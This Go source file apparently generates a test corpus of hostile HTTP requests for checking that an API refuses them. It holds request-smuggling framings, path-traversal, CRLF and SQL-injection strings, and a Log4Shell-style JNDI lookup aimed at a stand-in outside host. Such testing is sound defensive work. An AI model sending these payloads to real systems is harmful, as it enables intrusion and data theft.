package hostile

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
)

// framings tells the end of the body in every way but the right one.
func (c *corpus) framings(r Request) {
	const tooMuch = 9 << 20 // beyond the largest limit of any route
	c.may("in chunks", func(r *Request) { r.framing = byChunks })
	c.add("too much, in chunks", r.hasBody(), func(r *Request) {
		r.setBody(`{"a":"` + strings.Repeat("a", tooMuch) + `"}`)
		r.kind()
		r.framing = byChunks
	})
	raw := func(name string, refuse bool, body string, heads ...string) {
		c.add("framing: "+name, refuse, func(r *Request) {
			if body != "" {
				r.setBody(body)
			}
			r.framing = untold
			r.heads = append(r.heads, heads...)
		})
	}
	raw("too much is announced", true, "", fmt.Sprintf("Content-Length: %d", tooMuch))
	raw("too much is announced and asked for", true, "", fmt.Sprintf("Content-Length: %d", tooMuch), "Expect: 100-continue")
	raw("more than 64 bits", true, "a", "Content-Length: 99999999999999999999")
	raw("a negative length", true, "a", "Content-Length: -1")
	raw("a length that is none", true, "a", "Content-Length: 0x1")
	raw("two lengths", true, "aaa", "Content-Length: 1", "Content-Length: 3")
	raw("a list of lengths", true, "aaa", "Content-Length: 1, 3")
	raw("an unknown coding", true, "a", "Transfer-Encoding: gzip")
	raw("a coding on top of chunks", true, "a", "Transfer-Encoding: gzip, chunked")
	raw("chunks without a size", r.hasBody(), "zz\r\na\r\n0\r\n\r\n", "Transfer-Encoding: chunked")
	raw("a chunk of more than 64 bits", r.hasBody(), "fffffffffffffffff\r\na\r\n0\r\n\r\n", "Transfer-Encoding: chunked")
	raw("chunks that end early", r.hasBody(), "5\r\na", "Transfer-Encoding: chunked")
	raw("a trailer that injects", r.hasBody(), "1\r\na\r\n0\r\nX-Api-Key: a\r\nContent-Length: 5\r\n\r\n", "Transfer-Encoding: chunked")
	c.may("framing: expects to be told", func(r *Request) { r.header("Expect", "100-continue") })
	c.may("framing: expects what there is not", func(r *Request) { r.header("Expect", "200-ok") })
	if r.hasBody() {
		c.must("framing: less than announced", func(r *Request) { r.cut = 1 })
		c.must("framing: nothing of what was announced", func(r *Request) { r.cut = len(r.Body()) })
		return
	}
	c.may("a body nobody asked for", func(r *Request) { r.setBody(`{"amount":"a"}`); r.kind() })
	c.may("a broken body nobody asked for", func(r *Request) { r.setBody("{\x00"); r.kind() })
}

// segments are values of a path's wildcard, as they stand in the request line.
var segments = []string{
	"%2F", "a%2Fb", "%2f%2e%2e%2f", "%2e", "%2e%2e", ".", "..", "...", "%252e%252e", "a%00", "%00", "%zz", "%", "%2", "%u0041", "%c0%ae", "%ff%fe", "%ed%a0%80",
	"%0d%0aX-Injected:%201", "%0a", "%09", "%7f", "%c2%85", "%e2%80%ae", "%e2%80%8b", "%ef%bb%bf", "%f3%a0%81%81", "%20", "%20%20", "%2B1", "+1", "-1", "0", "00", "01", "1.0", "1e3",
	"0x1", "%D9%A1", "9223372036854775807", "9223372036854775808", "99999999999999999999999999", "a;b=c", ";", ":", "@", "*", "~", "a,b", "$", "!", "'", "%27%20OR%20%271%27=%271",
	"%25", "_", "%5c", "%5c..%5c", "a%5cb", "%22", "%3C" + Mark + "%3E", "%7B%7B7*7%7D%7D", "%7Bid%7D", "null", "undefined", "NaN", "true", "[]", "%5B%5D", "__proto__",
	"methods", "create", "batch", "live", "status", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "ATINV", "ATINV0", "ATINV00000000000000", "ATINV%D9%A1",
	"ATINV" + "99999999999999999999999999999999999999999999", "ATPAY1", strings.Repeat("a", 256), strings.Repeat("a", 5000), strings.Repeat("%F0%9D%94%B8", 100), strings.Repeat("a/", 500),
	strings.Repeat("%2F", 500), strings.Repeat("../", 200),
}

// paths gives each wildcard hostile values, and the path as a whole hostile forms.
func (c *corpus) paths(r Request, foreign []Pair) {
	for _, p := range r.Path {
		wild := func(name, raw string) {
			c.stray("{"+p.Name+"} = "+name, func(r *Request) {
				for i := range r.Path {
					if r.Path[i].Name == p.Name {
						r.Path[i].Value = raw
					}
				}
			})
		}
		for _, s := range segments {
			wild(brief(s), s)
		}
		for _, f := range foreign {
			wild("another's "+f.Name, escape(f.Value))
		}
		wild("none", "")
		wild("its own, with a line break", p.Value+"%0a")
		wild("its own, with NUL", p.Value+"%00")
		wild("its own, with a space", p.Value+"%20")
		wild("its own, with a zero-width space", p.Value+"%e2%80%8b")
		wild("its own, in capitals", strings.ToUpper(p.Value))
		wild("its own, all encoded", encodeAll(p.Value))
		wild("its own, and a parameter", p.Value+";a=b")
		wild("its own, and an extension", p.Value+".json")
		wild("its own, twice", p.Value+"%2F"+p.Value)
	}
	target := func(name string, f func(path string) string) {
		c.stray("path: "+name, func(r *Request) { r.target = f(r.Target()) })
	}
	target("two slashes first", func(p string) string { return "/" + p })
	target("every slash twice", func(p string) string { return strings.ReplaceAll(p, "/", "//") })
	target("a slash at the end", func(p string) string { return p + "/" })
	target("five slashes at the end", func(p string) string { return p + "/////" })
	target("dot first", func(p string) string { return "/." + p })
	target("two dots first", func(p string) string { return "/.." + p })
	target("in and out", func(p string) string { return "/a/.." + p })
	target("in and out, encoded", func(p string) string { return "/a/%2e%2e" + p })
	target("dot at the end", func(p string) string { return p + "/." })
	target("two dots at the end", func(p string) string { return p + "/.." })
	target("a backslash", func(p string) string { return strings.Replace(p, "/", `\`, 1) })
	target("in capitals", strings.ToUpper)
	target("a segment more", func(p string) string { return p + "/" + Mark })
	target("NUL at the end", func(p string) string { return p + "%00" })
	target("all encoded", func(p string) string { return "/" + encodeAll(p[1:]) })
	target("without a slash", func(p string) string { return p[1:] })
	target("another host", func(p string) string { return "http://" + Away + p })
	target("another scheme", func(p string) string { return "gopher://" + Away + p })
	target("a user", func(p string) string { return "http://" + Away + "@pay.example" + p })
	target("a fragment", func(p string) string { return p + "#a" })
	target("an asterisk", func(string) string { return "*" })
	target("markup", func(p string) string { return p + "/<" + Mark + ">" })
	target("markup, encoded", func(p string) string { return p + "/%3C" + Mark + "%3E" })
	target("20,000 characters", func(p string) string { return p + "/" + strings.Repeat("a", 20_000) })
	target("100,000 characters", func(p string) string { return p + "/" + strings.Repeat("a", 100_000) })
	target("5,000 segments", func(p string) string { return p + strings.Repeat("/a", 5000) })
	target("bytes above 127", func(p string) string { return p + "/\xff\xfe" })
	target("a colon first", func(string) string { return ":" })
	target("the root", func(string) string { return "/" })
}

// brief is s, or how it begins and how long it is.
func brief(s string) string {
	if len(s) <= 40 {
		return s
	}
	return fmt.Sprintf("%s... (%d)", s[:40], len(s))
}

// encodeAll is plain ASCII with every byte percent-encoded.
func encodeAll(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

// queries gives the route queries that cannot be read, and its parameters hostile values.
func (c *corpus) queries(r Request, foreign []Pair) {
	raw := func(name string, refuse bool, q string) {
		c.add("query: "+name, refuse && r.StrictQuery, func(r *Request) { r.query = &q })
	}
	raw("empty", false, "")
	raw("a percent sign", true, "%zz")
	raw("a percent sign in a value", true, "unknown=%zz")
	raw("cut", true, "unknown=%e")
	raw("not UTF-8", true, "unknown=%ff")
	raw("an unknown name", false, "unknown=1")
	raw("an unknown name twice", true, "unknown=1&unknown=2")
	raw("a name with brackets", false, "unknown[a][b]=1")
	raw("a semicolon", false, "a=1;b=2")
	raw("markup", false, "a=<"+Mark+">")
	raw("a redirect", false, "next=http://"+Away+"/&url=//"+Away+"&callback="+Away)
	raw("10,000 characters", false, "a="+strings.Repeat("a", 10_000))
	raw("3,000 names", true, strings.Repeat("a&", 3000))
	raw("a line break", false, "a=%0d%0aX-Injected:%201")
	raw("only marks", false, "&&&===&?")
	raw("a method", false, "_method=DELETE")
	for _, p := range r.Query {
		raw(p.Name+" twice", true, p.Name+"="+url.QueryEscape(p.Value)+"&"+p.Name+"="+url.QueryEscape(p.Value))
		raw(p.Name+" twice, once encoded", true, p.Name+"="+url.QueryEscape(p.Value)+"&"+encodeAll(p.Name)+"=1")
		raw(p.Name+" as a list", false, p.Name+"[]="+url.QueryEscape(p.Value))
		raw(p.Name+" cannot be decoded", true, p.Name+"=%zz")
		for _, v := range []string{
			"", "%20", "0", "-1", "+1", "%2B1", "01", "1.0", "1e1", "0x1", "99999999999999999999", "9223372036854775807", "a", "null", "%00", "%ff", "%0a", "%d9%a1", "'", "%27%20OR%201=1",
			"%25", "<" + Mark + ">", "00000000-0000-0000-0000-000000000000", strings.Repeat("9", 5000), "NaN", "true", "[]", "{}",
		} {
			raw(p.Name+" = "+brief(v), false, p.Name+"="+v)
		}
		for _, f := range foreign {
			raw(p.Name+" = another's "+f.Name, false, p.Name+"="+url.QueryEscape(f.Value))
		}
	}
}

// heads adds headers that are nobody's, or everybody's.
func (c *corpus) heads(r Request) {
	const key = "Idempotency-Key"
	keyed := func(name string, values ...string) {
		c.add("key: "+name, r.Keyed, func(r *Request) {
			for _, v := range values {
				r.Header = append(r.Header, Pair{key, v})
			}
		})
	}
	keyed("empty", "")
	keyed("blank", "  ")
	keyed("256 characters", strings.Repeat("k", 256))
	keyed("10,000 characters", strings.Repeat("k", 10_000))
	keyed("two", "k1", "k2")
	keyed("the same twice", "k1", "k1")
	keyed("not ASCII", "clé")
	keyed("not UTF-8", "k\xff")
	keyed("a tab inside", "k\tk")
	keyed("NUL", "k\x00k")
	keyed("a lone carriage return", "k\rX-Injected: 1")
	c.may("key: 255 characters", func(r *Request) { r.header(key, strings.Repeat("k", 255)+"") })
	c.may("key: markup", func(r *Request) { r.header(key, "<"+Mark+">'--%00") })

	for _, h := range []Pair{
		{"X-Forwarded-Host", Away},
		{"X-Forwarded-Proto", "javascript"},
		{"X-Forwarded-For", "127.0.0.1, <" + Mark + ">"},
		{"Forwarded", "host=" + Away + ";for=\"[::1]\""},
		{"X-Original-URL", "/v1/balances"},
		{"X-Rewrite-URL", "/v1/balances"},
		{"X-HTTP-Method-Override", "DELETE"},
		{"Request-Id", "<" + Mark + ">"},
		{"Request-Id", strings.Repeat("a", 5000)},
		{"Request-Id", "a b"},
		{"X-Request-Id", "'; DROP TABLE invoice; --"},
		{"Accept", "application/xml"},
		{"Accept", "*/*;q=a, <" + Mark + ">"},
		{"Accept", strings.Repeat("a/b,", 2000)},
		{"Accept-Language", strings.Repeat("a-", 4000) + "a"},
		{"Accept-Encoding", "gzip;q=a;q=b, *;q=-1"},
		{"Accept-Charset", "utf-16"},
		{"Range", "bytes=0-0,1-1,2-2,-1"},
		{"Range", "bytes=99999999999999999999-"},
		{"If-Match", "*"},
		{"If-None-Match", "*"},
		{"If-Modified-Since", "Fri, 31 Dec 9999 23:59:59 GMT"},
		{"Origin", "https://" + Away},
		{"Origin", "null"},
		{"Sec-Fetch-Site", "cross-site"},
		{"Referer", "https://" + Away + "/<" + Mark + ">"},
		{"Cookie", strings.Repeat("a=b; ", 1000)},
		{"User-Agent", "<" + Mark + ">${jndi:ldap://" + Away + "/}"},
		{"Upgrade", "websocket"},
		{"Connection", "Upgrade, Authorization, X-Api-Key"},
		{"Upgrade", "h2c"},
		{"HTTP2-Settings", "AAMAAABkAAQAAP__"},
		{"HX-Request", "true"},
		{"Max-Forwards", "-1"},
		{"TE", "trailers, gzip"},
		{"Trailer", "Content-Length, Authorization"},
		{"Date", "never"},
		{"__proto__", "a"},
	} {
		c.may(fmt.Sprintf("header %s: %.40s", h.Name, h.Value), func(r *Request) { r.Header = append(r.Header, h) })
	}
	raw := func(name string, refuse bool, lines ...string) {
		c.add("head: "+name, refuse, func(r *Request) { r.heads = append(r.heads, lines...) })
	}
	raw("1,000 headers", false, slices.Repeat([]string{"A: b"}, 1000)...)
	raw("64 KiB in one header", true, "A: "+strings.Repeat("a", 64<<10))
	raw("64 KiB in many headers", true, slices.Repeat([]string{"A: " + strings.Repeat("a", 100)}, 700)...)
	raw("a header that goes on", false, "A: b", "  c")
	raw("a space before the colon", true, "Content-Length : 5")
	raw("no colon", true, "A")
	raw("no name", true, ": a")
	raw("a name with a space", true, "A B: c")
	raw("a name that is not ASCII", true, "Ä: b")
	raw("NUL in a header", true, "A: b\x00c")
	raw("a second host", true, "Host: "+Away)
	raw("a lone line feed", false, "A: b\nX-Api-Key: c")
	c.stray("head: no host", func(r *Request) { r.noHost = true })
	c.may("head: another host", func(r *Request) { r.noHost = true; r.heads = append(r.heads, "Host: "+Away) })
	c.stray("head: a host that is none", func(r *Request) { r.noHost = true; r.heads = append(r.heads, "Host: <"+Mark+">/a@b:c") })
	c.stray("head: HTTP/1.0", func(r *Request) { r.proto = "HTTP/1.0" })
	c.stray("head: HTTP/0.9", func(r *Request) { r.proto = "HTTP/0.9" })
	c.stray("head: HTTP/2.0", func(r *Request) { r.proto = "HTTP/2.0" })
	c.stray("head: no protocol", func(r *Request) { r.proto = "a" })
}

// credentials swaps, bends and takes away what proves who asks.
func (c *corpus) credentials(r Request) {
	for _, set := range r.Wrong {
		c.must("credentials: "+set[""], func(r *Request) { r.show(set) })
	}
	type secret struct {
		name string
		set  func(*Request, string)
		get  func(*Request) string
	}
	var list []secret
	for _, h := range r.Secrets {
		list = append(list, secret{h, func(r *Request, v string) { r.header(h, v) }, func(r *Request) string { return r.get(h) }})
		c.add("credentials: no "+h, !r.Open, func(r *Request) { r.drop(h) })
		c.must("credentials: "+h+" twice", func(r *Request) { r.Header = append(r.Header, Pair{h, r.get(h)}) })
		c.must("credentials: another "+h+" first", func(r *Request) { r.Header = append([]Pair{{h, "Bearer another"}}, r.Header...) })
		c.must("credentials: another "+h+" last", func(r *Request) { r.Header = append(r.Header, Pair{h, "another"}) })
	}
	for _, f := range r.Fields {
		if !f.Secret {
			continue
		}
		list = append(list, secret{f.Name, func(r *Request, v string) { r.set(f.Name, quote(v)) }, func(r *Request) string {
			i := slices.IndexFunc(r.Fields, func(have Field) bool { return have.Name == f.Name })
			if i < 0 {
				return ""
			}
			return unquote(r.Fields[i].JSON)
		}})
		c.must("credentials: no "+f.Name, func(r *Request) {
			r.Fields = slices.DeleteFunc(r.Fields, func(have Field) bool { return have.Name == f.Name })
		})
		for _, v := range types() {
			c.must("credentials: "+f.Name+" = "+v.name, func(r *Request) { r.set(f.Name, v.json) })
		}
	}
	for _, s := range list {
		bend := func(name string, f func(string) string) {
			c.must("credentials: "+s.name+" "+name, func(r *Request) { s.set(r, f(s.get(r))) })
		}
		for _, text := range []string{
			"", " ", "null", "undefined", "true", "0", "*", "%", "_", "' OR '1'='1", "Bearer", "Bearer ", "Bearer null", "Basic YTpi", "\xff", "clé",
		} {
			if text == "" && r.Open {
				continue // an empty header may count as none
			}
			bend(fmt.Sprintf("= %q", text), func(string) string { return text })
		}
		bend("shorter by one", func(v string) string { return v[:max(len(v)-1, 0)] })
		bend("longer by one", func(v string) string { return v + "a" })
		bend("twice in one", func(v string) string { return v + "," + v })
		bend("in capitals", func(v string) string { return strings.ToUpper(v) + "A" })
		bend("300 characters", func(string) string { return strings.Repeat("a", 300) })
		bend("20,000 characters", func(string) string { return strings.Repeat("a", 20_000) })
		bend("with a LIKE pattern", func(v string) string { return v[:max(len(v)-3, 0)] + "%" })
	}
}

// show replaces the credentials by those of the set; one that the set does not name is left out.
func (r *Request) show(set map[string]string) {
	for _, h := range r.Secrets {
		r.drop(h)
		if v, ok := set[h]; ok {
			r.Header = append(r.Header, Pair{h, v})
		}
	}
	for i := range r.Fields {
		if v, ok := set[r.Fields[i].Name]; ok && r.Fields[i].Secret {
			r.Fields[i].JSON = quote(v)
		}
	}
	for i := range r.Path {
		if v, ok := set["{"+r.Path[i].Name+"}"]; ok {
			r.Path[i].Value = v
		}
	}
}

// methods asks with methods that the route does not take.
func (c *corpus) methods(r Request) {
	for _, m := range []string{
		"GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "PRI", "get", "post", "Get", "FOO", "A", "<" + Mark + ">", strings.Repeat("A", 5000), "GET,POST", "\x00",
	} {
		if m != r.Method {
			c.stray(fmt.Sprintf("method %.20q", m), func(r *Request) { r.Method = m })
		}
	}
	c.stray("method HEAD", func(r *Request) { r.Method = "HEAD" })
}
